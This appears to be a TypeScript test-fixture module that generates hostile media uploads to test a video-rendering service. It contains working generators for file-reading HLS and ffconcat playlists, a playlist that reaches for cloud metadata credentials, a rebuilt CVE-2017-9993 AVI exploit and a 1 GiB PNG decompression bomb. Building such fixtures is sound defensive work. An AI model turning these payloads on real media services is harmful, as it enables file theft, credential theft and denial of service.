/**
 * Generators for the hostile media corpus (issue 7). Every file is made here, byte by byte or with
 * the local ffmpeg; nothing is downloaded. Each generator returns the bytes to upload and the
 * filename the upload claims, so a test can lie about the extension too.
 */
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';

/** A file of known random bytes at a known path: the secret no output, log or answer may show. */
export interface Canary {
  readonly path: string;
  /** A printable marker (logs and JSON would show it as text). */
  readonly token: string;
  /** Raw random bytes, searched for in binary outputs. */
  readonly bytes: Buffer;
  /** The whole file. */
  readonly content: Buffer;
}

export function makeCanary(dir: string): Canary {
  const token = `MONTAGE-CANARY-${randomBytes(12).toString('hex')}`;
  const bytes = randomBytes(48);
  const content = Buffer.concat([Buffer.from(`${token}\n`), bytes, Buffer.from(`\n${token}\n`)]);
  const path = join(dir, 'canary.txt');
  writeFileSync(path, content);
  return { path, token, bytes, content };
}

/** Sequences whose presence in a buffer would mean the canary leaked (text or raw, hex too). */
export function canaryNeedles(c: Canary): Buffer[] {
  return [Buffer.from(c.token), c.bytes.subarray(0, 16), c.bytes.subarray(32, 48), Buffer.from(c.bytes.subarray(0, 12).toString('hex')),
    Buffer.from(c.bytes.subarray(0, 12).toString('base64'))];
}

export interface HostileFile {
  readonly name: string;
  /** The filename the upload claims. */
  readonly filename: string;
  readonly body: Buffer;
  /** How the render uses it. */
  readonly as: 'image' | 'video';
  /** `length` of the clip that uses it. */
  readonly length: number | 'auto';
}

// ---------- playlists and lists that try to read other files ----------

export const m3u8ToFile = (canaryPath: string): Buffer => Buffer.from([
  '#EXTM3U', '#EXT-X-VERSION:3', '#EXT-X-TARGETDURATION:10', '#EXT-X-MEDIA-SEQUENCE:0',
  '#EXTINF:10.0,', `file://${canaryPath}`, '#EXT-X-ENDLIST', '',
].join('\n'));

export const m3u8ToUrl = (url: string): Buffer => Buffer.from([
  '#EXTM3U', '#EXT-X-VERSION:3', '#EXT-X-TARGETDURATION:10', '#EXT-X-MEDIA-SEQUENCE:0',
  '#EXTINF:10.0,', url, '#EXTINF:10.0,', `${url.replace(/\/?$/, '/')}latest/meta-data/iam/security-credentials/`, '#EXT-X-ENDLIST', '',
].join('\n'));

export const ffconcatNaming = (canaryPath: string): Buffer =>
  Buffer.from(`ffconcat version 1.0\nfile '${canaryPath}'\nduration 5\nfile 'file:${canaryPath}'\n`);

// ---------- AVI with a GAB2 subtitle holding an HLS playlist (CVE-2017-9993) ----------

const fourcc = (s: string) => Buffer.from(s, 'latin1');
const u32 = (n: number) => { const b = Buffer.alloc(4); b.writeUInt32LE(n >>> 0); return b; };
const u16 = (n: number) => { const b = Buffer.alloc(2); b.writeUInt16LE(n); return b; };
const chunk = (id: string, data: Buffer): Buffer => Buffer.concat([fourcc(id), u32(data.length), data, data.length % 2 ? Buffer.alloc(1) : Buffer.alloc(0)]);
const list = (type: string, ...parts: Buffer[]): Buffer => chunk('LIST', Buffer.concat([fourcc(type), ...parts]));

/**
 * The shape of the 2017 exploit: a RIFF AVI whose subtitle stream ('txts') carries a GAB2 packet,
 * which old FFmpeg probed as a file of its own, so an HLS playlist inside it was opened by the HLS
 * demuxer with the AVI's protocol rights. Here the playlist names the canary (file://) and, as the
 * original did to show the bytes, the video stream claims the XBIN codec.
 */
export function aviGab2Hls(canaryPath: string): Buffer {
  const playlist = Buffer.concat([
    Buffer.from('#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n'),
    Buffer.from(`file://${canaryPath}\n#EXT-X-ENDLIST\n`),
  ]);
  const name = Buffer.from('subtitle\0', 'utf16le');
  const gab2 = Buffer.concat([Buffer.from('GAB2\0', 'latin1'), u16(2), u32(name.length), name, u16(4), u32(playlist.length), playlist]);
  const w = 64; const h = 64;
  const avih = chunk('avih', Buffer.concat([
    u32(40000), u32(0), u32(0), u32(0x10 /* HASINDEX */), u32(1), u32(0), u32(2), u32(0), u32(w), u32(h), Buffer.alloc(16),
  ]));
  const strh = (type: string, handler: string, scale: number, rate: number) => chunk('strh', Buffer.concat([
    fourcc(type), fourcc(handler), u32(0), u16(0), u16(0), u32(0), u32(scale), u32(rate), u32(0), u32(1), u32(0), u32(0xffffffff), u32(0), Buffer.alloc(8),
  ]));
  const bih = chunk('strf', Buffer.concat([u32(40), u32(w), u32(h), u16(1), u16(24), fourcc('XBIN'), u32(w * h * 3), u32(0), u32(0), u32(0), u32(0)]));
  const vids = list('strl', strh('vids', 'XBIN', 1, 25), bih);
  const txts = list('strl', strh('txts', '\0\0\0\0', 1, 25), chunk('strf', Buffer.alloc(0)));
  const hdrl = list('hdrl', avih, vids, txts);
  const frame = Buffer.concat([Buffer.from('XBIN\x1a', 'latin1'), u16(8), u16(8), Buffer.from([16, 0]), Buffer.alloc(64, 0x41)]);
  const p0 = chunk('00dc', frame);
  const p1 = chunk('01tx', gab2);
  const movi = list('movi', p0, p1);
  const idx = chunk('idx1', Buffer.concat([
    fourcc('00dc'), u32(0x10), u32(4), u32(frame.length),
    fourcc('01tx'), u32(0x10), u32(4 + p0.length), u32(gab2.length),
  ]));
  const body = Buffer.concat([fourcc('AVI '), hdrl, movi, idx]);
  return Buffer.concat([fourcc('RIFF'), u32(body.length), body]);
}

// ---------- PNGs ----------

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
export const crc32 = (buf: Buffer): number => {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};
const pngChunk = (type: string, data: Buffer): Buffer => {
  const td = Buffer.concat([fourcc(type), data]);
  const len = Buffer.alloc(4); len.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4); crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
};
const ihdr = (w: number, h: number, bitDepth: number, colorType: number): Buffer => {
  const b = Buffer.alloc(13);
  b.writeUInt32BE(w, 0); b.writeUInt32BE(h, 4); b[8] = bitDepth; b[9] = colorType; // compression, filter, interlace 0
  return pngChunk('IHDR', b);
};
const PNG_SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A valid-CRC PNG whose header claims w×h (RGB) with one tiny IDAT: a liar about its size. */
export function pngClaiming(w: number, h: number): Buffer {
  return Buffer.concat([PNG_SIG, ihdr(w, h, 8, 2), pngChunk('IDAT', deflateSync(Buffer.alloc(64))), pngChunk('IEND', Buffer.alloc(0))]);
}

/**
 * Bits written least-significant first, as deflate packs them; Huffman codes go in MSB first.
 */
class BitWriter {
  readonly #out: Buffer;
  #byte = 0;
  #bit = 0;
  #acc = 0;
  constructor(capacity: number) { this.#out = Buffer.alloc(capacity); }
  bits(value: number, n: number) { for (let i = 0; i < n; i++) this.#push((value >>> i) & 1); }
  code(code: number, n: number) { for (let i = n - 1; i >= 0; i--) this.#push((code >>> i) & 1); }
  #push(b: number) {
    this.#acc |= b << this.#bit;
    if (++this.#bit === 8) { this.#out[this.#byte++] = this.#acc; this.#acc = 0; this.#bit = 0; }
  }
  done(): Buffer { if (this.#bit) this.#out[this.#byte++] = this.#acc; return this.#out.subarray(0, this.#byte); }
}

/**
 * A zlib stream that inflates to `n` zero bytes: one fixed-Huffman block of a literal 0 and then
 * (length 258, distance 1) copies, 13 bits per 258 bytes. Built directly, so a gigabyte of output
 * costs a few megabytes and a few milliseconds to make.
 */
export function zlibZeros(n: number): Buffer {
  const matches = Math.floor((n - 1) / 258);
  const tail = n - 1 - matches * 258;
  const w = new BitWriter(Math.ceil((3 + 8 + matches * 13 + tail * 8 + 7) / 8) + 16);
  w.bits(1, 1); w.bits(1, 2); // BFINAL, BTYPE=01 fixed
  w.code(0x30, 8); // literal 0
  for (let i = 0; i < matches; i++) { w.code(0xc5, 8); w.code(0, 5); } // length code 285 (258), distance code 0 (1)
  for (let i = 0; i < tail; i++) w.code(0x30, 8);
  w.code(0, 7); // end of block
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((n % 65521) << 16) | 1) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0x01]), w.done(), adler]);
}

/**
 * A real decompression bomb disguised as a photo: a w×h 8-bit RGBA PNG whose rows are all zeros
 * (filter 0), so 16384×16384 inflates to 1 GiB from about 6.5 MiB, and decodes to a 1 GiB frame.
 */
export function pngBomb(w: number, h: number): Buffer {
  const idat = zlibZeros(h * (1 + w * 4));
  const parts: Buffer[] = [];
  for (let o = 0; o < idat.length; o += 1 << 20) parts.push(pngChunk('IDAT', idat.subarray(o, o + (1 << 20))));
  return Buffer.concat([PNG_SIG, ihdr(w, h, 8, 6), ...parts, pngChunk('IEND', Buffer.alloc(0))]);
}

/** A small ordinary PNG (w×h, one colour), for sanity renders and the lying-extension case. */
export function pngSolid(w: number, h: number, rgb: [number, number, number]): Buffer {
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(w * 3).map((_, i) => rgb[i % 3]!)]);
  return Buffer.concat([PNG_SIG, ihdr(w, h, 8, 2), pngChunk('IDAT', deflateSync(Buffer.concat(Array(h).fill(row)))), pngChunk('IEND', Buffer.alloc(0))]);
}

// ---------- videos made with the local ffmpeg ----------

const withTemp = <T>(fn: (dir: string) => T): T => {
  const dir = mkdtempSync(join(tmpdir(), 'montage-hostile-'));
  try { return fn(dir); } finally { rmSync(dir, { recursive: true, force: true }); }
};
const ffmpeg = (args: string[]) => execFileSync('ffmpeg', ['-hide_banner', '-loglevel', 'error', '-y', ...args], { stdio: ['ignore', 'ignore', 'pipe'] });

/**
 * A video that claims 10 hours: 11 frames, one an hour (time base 1/3600 s... each frame's pts an
 * hour apart), in Matroska. Decoding it is cheap; believing its duration is not.
 */
export function tenHoursOneFramePerHour(): Buffer {
  return withTemp((dir) => {
    const out = join(dir, 'slow.mkv');
    ffmpeg(['-f', 'lavfi', '-i', 'color=c=red:s=64x64:r=1', '-frames:v', '11', '-vf', 'setpts=N*3600/TB',
      '-fps_mode', 'passthrough', '-c:v', 'mpeg4', '-r', '1/3600', out]);
    return readFileSync(out);
  });
}

/** A 2 s H.264/AAC MP4 with its index (moov) at the end, cut in half: no index, half a payload. */
export function truncatedMp4(): Buffer {
  return withTemp((dir) => {
    const out = join(dir, 'whole.mp4');
    ffmpeg(['-f', 'lavfi', '-i', 'testsrc=s=160x120:r=25:d=2', '-f', 'lavfi', '-i', 'sine=d=2',
      '-c:v', 'libx264', '-preset', 'ultrafast', '-c:a', 'aac', '-shortest', out]);
    const whole = readFileSync(out);
    return whole.subarray(0, Math.floor(whole.length * 0.6));
  });
}

/**
 * A 2 s, 25 fps Matroska file whose Segment Info says it lasts 10 hours (the Duration float
 * rewritten): every frame rate looks ordinary, only the claim is false.
 */
export function mkvClaimingTenHours(): Buffer {
  return withTemp((dir) => {
    const out = join(dir, 'liar.mkv');
    ffmpeg(['-f', 'lavfi', '-i', 'testsrc=s=64x64:r=25:d=2', '-c:v', 'mpeg4', out]);
    const b = Buffer.from(readFileSync(out));
    const at = b.indexOf(Buffer.from([0x44, 0x89, 0x88])); // Duration, an 8-byte float, in ms
    if (at < 0) throw new Error('no Duration element in the generated Matroska file');
    b.writeDoubleBE(10 * 3600 * 1000, at + 3);
    return b;
  });
}
